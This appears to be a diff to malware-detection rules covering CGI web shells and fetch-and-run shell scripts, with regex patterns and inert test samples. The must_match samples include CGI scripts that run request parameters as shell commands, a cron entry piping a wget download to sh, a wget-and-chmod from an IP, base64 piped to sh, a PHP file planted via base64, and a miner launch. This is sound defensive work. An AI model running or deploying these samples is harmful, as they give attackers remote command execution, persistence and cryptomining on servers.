@@ -77,6 +77,9 @@ rule script_runs_request {
     must_match = "#!/usr/bin/perl\n# inert\nuse CGI; my $q = new CGI; my $cmd = $q->param('cmd'); print `$cmd 2>&1`;\n"
     must_match = "#!/usr/bin/perl\n# inert\nsystem($ENV{'QUERY_STRING'});\n"
     must_match = "#!/usr/bin/python\n# inert\nimport cgi, os\nform = cgi.FieldStorage()\nos.popen(form.getvalue('cmd'))\n"
+    must_match = "#!/usr/bin/perl\n# inert\nuse CGI; my $q = CGI->new; print `@{[$q->param('c')]}`;\n"
+    must_match = "#!/bin/sh\n# inert\neval \"$(echo $QUERY_STRING | sed 's/+/ /g')\"\n"
+    must_not = "#!/bin/sh\neval `dircolors`\necho \"$QUERY_STRING\"\n"
     must_not = "#!/usr/bin/perl\nuse CGI; my $page = param('page'); print `/usr/bin/uptime`; open(MAIL, \"|$mailprog\");\n"
     must_not = "#!/usr/bin/python\nimport cgi, subprocess\nform = cgi.FieldStorage()\nsubprocess.run(['git', 'pull'])\n"
   strings:
@@ -86,9 +89,12 @@ rule script_runs_request {
     $direct = /\b(system|exec|eval|qx)\s{0,2}[({]?\s{0,2}["'`]?\$ENV\{['"]?(QUERY_STRING|HTTP_\w{1,30})/
     $field = /\$(\w{1,20})\s{0,2}=\s{0,2}[^;\n]{0,60}(param\s?\(|\$(in|FORM|form|query|input|CGI)\{)\s{0,2}['"]?(cmd|command|exec|execute|shell|run|perintah|komut)\b/ nocase
     $run = /(\b(system|exec|qx)\s{0,2}[({]\s{0,2}["']?\$\w{1,20}\b|[=\s(]`\s{0,2}(cd[^`;]{0,60}[;&]{1,2}\s{0,2})?\$\w{1,20}|\bopen\s{0,2}\(\s{0,2}\w{1,20}\s{0,2},\s{0,2}["']\(?\s{0,2}(cd[^"';]{0,60};\s{0,2})?\$\w{1,20}[^"'\n]{0,30}\|)/
-    $popen = /\b(os\.(popen\d?|system)|subprocess\.\w{2,14}|commands\.getoutput)\s{0,2}\(\s{0,2}(\w{1,20}(\.getvalue\s?\(|\.getfirst\s?\(|\[['"])|request\.(args|form|values|GET|POST))/
+    $inline = /(\b(system|exec|qx)\s{0,2}[({]?|`)[^`;\n]{0,60}(->|\b)param\s?\(/
+    $asked = /\b(eval|(ba|da)?sh\s{1,2}-c)\b[^\n;|]{0,80}\$\{?QUERY_STRING\b/
+    $shell = /^#!\s?[^\n]{1,40}\/(ba|da|z|k)?sh\b/
+    $popen = /\b(os\.(popen\d?|system)|subprocess\.\w{2,14}|commands\.getoutput)\s{0,2}\(\s{0,2}([\w.()]{1,40}(\.getvalue\s?\(|\.getfirst\s?\(|\[['"])|request\.(args|form|values|GET|POST))/
   condition:
-    filesize < 512KB and $bin in (0..40) and (($perl at 0 and ($direct or ($field and $run))) or ($python at 0 and $popen))
+    filesize < 512KB and $bin in (0..40) and (($perl at 0 and ($direct or $inline or ($field and $run))) or ($shell at 0 and $asked) or ($python at 0 and $popen))
 }
 
 rule bot_takes_orders {
@@ -126,6 +132,7 @@ rule fetched_and_run_again {
     must_match = "#!/bin/sh\n# inert\n(crontab -l; echo '*/5 * * * * wget -q -O - http://inert.example.test/u | sh') | crontab -\n"
     must_match = "#!/bin/sh\n# inert\nwget http://192.0.2.1/x -O /tmp/.x; chmod +x /tmp/.x\n"
     must_match = "#!/bin/sh\n# inert\necho 'aW5lcnRpbmVydGluZXJ0aW5lcnQ=' | base64 -d | sh\n"
+    must_match = "#!/bin/sh\n# inert\necho PD9waHAgZXhpdDs= | base64 -d > index.php\n"
     must_match = "#!/bin/sh\n# inert\nnohup ./x -o stratum+tcp://inert.example.test:3333 &\n"
     must_not = "#!/bin/sh\ncurl -sS https://example.test/installer | php\n(crontab -l; echo '0 3 * * * /usr/bin/backup') | crontab -\n"
     must_not = "#!/bin/sh\nwget https://example.test/tool.tar.gz && tar xzf tool.tar.gz && chmod +x tool/run\n"
@@ -134,9 +141,10 @@ rule fetched_and_run_again {
     $timer = /\*\s\*[^\n]{1,120}\b(curl|wget|lwp-download|fetch)\b[^\n|]{4,300}\|\s{0,2}(ba|da|z)?sh\b/
     $bare = /\b(curl|wget)\b[^\n]{0,80}https?:\/\/\d{1,3}(\.\d{1,3}){3}[^\n]{0,160}(\|\s{0,2}(ba|da|z)?sh\b|chmod\s{1,3}(\+x|[0-7]*7[0-7]*))/
     $unpacked = /\becho\s{1,3}(-n\s)?["']?[A-Za-z0-9+\/=]{16,4000}["']?\s{0,2}\|\s{0,2}base64\s{1,2}(-d|-D|--decode)\s{0,2}\|\s{0,2}(ba|da|z)?sh\b/
+    $planted = /\becho\s{1,3}(-n\s)?["']?PD9[wX][A-Za-z0-9+\/=]{8,4000}["']?\s{0,2}\|\s{0,2}base64\s{1,2}(-d|-D|--decode)\s{0,2}>/
     $digs = "stratum+tcp://"
   condition:
-    $shell at 0 and filesize < 128KB and any of ($timer, $bare, $unpacked, $digs)
+    $shell at 0 and filesize < 128KB and any of ($timer, $bare, $unpacked, $planted, $digs)
 }
 
 rule encoded_script_run {
